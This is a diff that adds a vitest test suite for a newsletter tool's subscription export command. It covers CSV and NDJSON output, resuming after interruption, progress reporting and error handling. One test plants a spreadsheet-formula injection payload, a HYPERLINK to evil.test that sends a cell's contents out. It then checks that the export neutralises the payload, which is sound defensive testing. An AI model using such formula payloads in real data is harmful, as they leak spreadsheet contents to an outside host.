@@ -1,0 +1,206 @@
+import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { createClient } from '@newsletter-kit/core';
+import { test, type SandboxOnPort } from '@newsletter-kit/sandbox/vitest';
+import { expect } from 'vitest';
+import { eventually, events, run, start } from './command.ts';
+import { scratchFolder } from '../../../test/support/scratch-folder.ts';
+
+test.override({ sandboxOptions: { seed: 'demo' } });
+
+interface Exported {
+  readonly id: string;
+  readonly email: string;
+}
+
+/** Every subscription as the API lists it. */
+async function everyone(sandbox: SandboxOnPort): Promise<readonly Exported[]> {
+  const all: Exported[] = [];
+  for await (const each of createClient(sandbox.clientOptions).subscriptions.list({ limit: 100, direction: 'asc' }))
+    all.push(each);
+  return all;
+}
+
+const ids = (subscriptions: readonly Exported[]): string[] => subscriptions.map(({ id }) => id).toSorted();
+const ndjson = (text: string): Exported[] =>
+  text
+    .trim()
+    .split('\n')
+    .map((line) => JSON.parse(line) as Exported);
+/** Cells, for values without quotes. */
+const cells = (line: string | undefined): string[] => (line ?? '').split(',');
+
+test('writes every subscription once, as the service answers them', async ({ sandboxOnPort: sandbox }) => {
+  const path = join(scratchFolder(), 'all.ndjson');
+  const { code, stdout, stderr } = await run(
+    ['export', path, '--expand', 'custom_fields,tags', '--expand', 'stats'],
+    sandbox.env,
+  );
+  expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
+  expect(stderr).toMatch(new RegExp(`Exported 300 subscriptions to ${path} \\(.+ a (second|minute)\\)\\.\n$`));
+  const written = ndjson(readFileSync(path, 'utf8'));
+  expect(ids(written)).toEqual(ids(await everyone(sandbox)));
+  expect(written[0]).toHaveProperty('custom_fields');
+  expect(written[0]).toHaveProperty('stats.open_rate');
+  expect(statSync(path).mode & 0o777).toBe(0o600); // addresses are in it
+  expect(readdirSync(join(path, '..'))).toEqual(['all.ndjson']);
+});
+
+test('writes CSV with a column for each field and each custom field, to stdout where no file is named', async ({
+  sandboxOnPort: sandbox,
+}) => {
+  const { code, stdout } = await run(['export', '--expand', 'custom_fields,stats', '--status', 'active'], sandbox.env);
+  expect(code).toBe(0);
+  const lines = stdout.trimEnd().split('\r\n');
+  const heading = cells(lines[0]);
+  expect(heading.slice(0, 3)).toEqual(['id', 'email', 'status']);
+  const fields: string[] = [];
+  for await (const { display } of createClient(sandbox.clientOptions).customFields.list())
+    fields.push(`custom:${display}`);
+  expect(fields.length).toBeGreaterThan(3);
+  expect(heading).toEqual(expect.arrayContaining(['created', 'stats.open_rate', ...fields]));
+  expect(lines.length).toBeGreaterThan(100);
+  for (const line of lines.slice(1)) expect(cells(line)[2]).toBe('active');
+  expect(lines[1]).toMatch(/,\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.000Z,/);
+});
+
+test('takes the sting out of cells that a spreadsheet would run, unless told not to', async ({
+  sandboxOnPort: sandbox,
+}) => {
+  const client = createClient(sandbox.clientOptions);
+  const evil = '=HYPERLINK("http://evil.test"&A1)';
+  await client.subscriptions.create({ email: 'mallory@example.com', utm_source: evil, utm_campaign: 'a, "b"\nc' });
+  const line = async (...args: string[]) =>
+    (await run(['export', ...args], sandbox.env)).stdout.split('\r\n').find((each) => each.includes('mallory'));
+  expect(await line()).toContain(`"'=HYPERLINK(""http://evil.test""&A1)"`);
+  expect(await line()).toContain('"a, ""b""\nc"');
+  expect(await line('--raw')).toContain(`"=HYPERLINK(""http://evil.test""&A1)"`);
+  expect(await line('--format', 'ndjson')).toContain(JSON.stringify(evil));
+});
+
+test('goes on after an interruption where it stopped, and then has everyone once', async ({
+  sandboxOnPort: sandbox,
+}) => {
+  const path = join(scratchFolder(), 'all.csv');
+  sandbox.faults.add({ match: 'subscriptions.list', effect: { latency: 400 } });
+  const first = start(['export', path], sandbox.env);
+  await eventually('a page', () => /Exported 100 subscriptions …/.exec(first.stderr()));
+  first.kill('SIGINT');
+  const stopped = await first.ended;
+  expect(stopped).toMatchObject({
+    code: 3,
+    stderr: expect.stringMatching(/Interrupted after \d+ subscriptions\. The same command goes on from there/),
+  });
+  expect(existsSync(path)).toBe(false);
+
+  // What came later than the place that was noted, as after a power cut, is written again and not twice.
+  writeFileSync(`${path}.part`, 'half a li', { flag: 'a' });
+  const second = await run(['export', path], sandbox.env);
+  expect(second).toMatchObject({
+    code: 0,
+    stderr: expect.stringMatching(/^Going on after \d+ subscriptions of an earlier run\.\n/),
+  });
+  const written = readFileSync(path, 'utf8').trimEnd().split('\r\n').slice(1);
+  expect(written.map((line) => cells(line)[0]).toSorted()).toEqual(ids(await everyone(sandbox)));
+  expect(readdirSync(join(path, '..'))).toEqual(['all.csv']);
+});
+
+test('begins anew for another question, and where the service no longer knows the place', async ({
+  sandboxOnPort: sandbox,
+}) => {
+  const path = join(scratchFolder(), 'all.ndjson');
+  sandbox.faults.add({ match: 'subscriptions.list', effect: { latency: 300 }, times: 4 });
+  const first = start(['export', path], sandbox.env);
+  await eventually('a page', () => /Exported 100/.exec(first.stderr()));
+  first.kill('SIGINT');
+  await first.ended;
+
+  const other = await run(['export', path, '--status', 'active'], sandbox.env);
+  expect(other.stderr).not.toContain('Going on');
+  expect(ndjson(readFileSync(path, 'utf8')).length).toBeLessThan(300);
+
+  const place = {
+    what: JSON.stringify([
+      `${sandbox.address}/v2`,
+      sandbox.env['NEWSLETTER_PUBLICATION_ID'],
+      { limit: 100, order_by: 'created', direction: 'asc' },
+      'ndjson',
+      '',
+      false,
+    ]),
+    cursor: 'no-such-cursor',
+    bytes: 4,
+    subscriptions: 1,
+  };
+  writeFileSync(`${path}.part.json`, JSON.stringify(place));
+  writeFileSync(`${path}.part`, '{}\n\n');
+  const anew = await run(['export', path], sandbox.env);
+  expect(anew).toMatchObject({ code: 0, stderr: expect.stringContaining('begins anew') });
+  expect(ids(ndjson(readFileSync(path, 'utf8')))).toEqual(ids(await everyone(sandbox)));
+});
+
+test('ends at once when it is interrupted twice', async ({ sandboxOnPort: sandbox }) => {
+  sandbox.faults.add({ match: 'subscriptions.list', effect: { latency: 20_000 } });
+  const slow = start(['export', join(scratchFolder(), 'all.csv')], sandbox.env);
+  await eventually('that it waits for an answer', () => sandbox.faults.list().some(({ fired }) => fired > 0) || null);
+  slow.kill('SIGINT');
+  await eventually('that it was heard', () => /once more to end at once/.exec(slow.stderr()));
+  slow.kill('SIGINT');
+  expect((await slow.ended).code).toBe(3);
+});
+
+test('tells programs how far it is, and keeps stdout for one thing', async ({ sandboxOnPort: sandbox }) => {
+  const path = join(scratchFolder(), 'all.csv');
+  const { code, stdout, stderr } = await run(['export', path, '--json'], sandbox.env);
+  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
+  const told = events(stdout);
+  expect(told[0]).toMatchObject({ type: 'progress', subscriptions: 100 });
+  expect(told.at(-1)).toEqual({ type: 'exported', subscriptions: 300, file: path });
+  const mixed = await run(['export', '--json'], sandbox.env);
+  expect(mixed).toMatchObject({ code: 1, stderr: expect.stringContaining('name a FILE') });
+});
+
+test('draws one line that counts up on a terminal, and none for CI', async ({ sandboxOnPort: sandbox }) => {
+  const path = join(scratchFolder(), 'all.csv');
+  // `script` gives the command a terminal.
+  const onTerminal = 'script -qec "$(printf "\'%s\' " "$@")" /dev/null';
+  const env = { ...sandbox.env, TERM: 'xterm' };
+  const live = await start(['export', path], env, onTerminal).ended;
+  expect(live.stdout).toContain('\u001B[2K');
+  const ci = await start(['export', path], { ...env, CI: 'true' }, onTerminal).ended;
+  expect(ci.stdout).toContain('Exported 300 subscriptions to');
+  expect(ci.stdout).not.toContain('\u001B[');
+});
+
+test('takes it calmly when the reader of stdout has seen enough', async ({ sandboxOnPort: sandbox }) => {
+  const { stdout, stderr } = await start(
+    ['export', '--expand', 'stats'],
+    sandbox.env,
+    '{ "$@"; echo "code $?" >&2; } | head -n 2',
+  ).ended;
+  expect(stdout).toMatch(/^id,email,/);
+  expect(stderr).toMatch(/code 0\n$/);
+  expect(stderr).not.toContain('EPIPE');
+});
+
+test('says what it cannot do, and leaves nothing half', async ({ sandboxOnPort: sandbox }) => {
+  const missing = join(scratchFolder(), 'no', 'such', 'folder.csv');
+  expect(await run(['export', missing], sandbox.env)).toMatchObject({
+    code: 1,
+    stderr: expect.stringContaining('ENOENT'),
+  });
+  const path = join(scratchFolder(), 'all.csv');
+  writeFileSync(path, 'of yesterday');
+  const fault = sandbox.faults.add({ match: 'subscriptions.list', effect: { status: 403 } });
+  expect((await run(['export', path], sandbox.env)).code).toBe(1);
+  expect(readFileSync(path, 'utf8')).toBe('of yesterday');
+  expect(readdirSync(join(path, '..'))).toEqual(['all.csv']);
+
+  // A failure on the way is no reason to begin anew either.
+  sandbox.faults.remove(fault.id);
+  sandbox.faults.add({ match: 'subscriptions.list', effect: { status: 403 }, nth: 3 });
+  expect((await run(['export', path], sandbox.env)).code).toBe(1);
+  const again = await run(['export', path], sandbox.env);
+  expect(again).toMatchObject({ code: 0, stderr: expect.stringContaining('Going on after 200 subscriptions') });
+  expect(readFileSync(path, 'utf8').trimEnd().split('\r\n')).toHaveLength(301);
+});
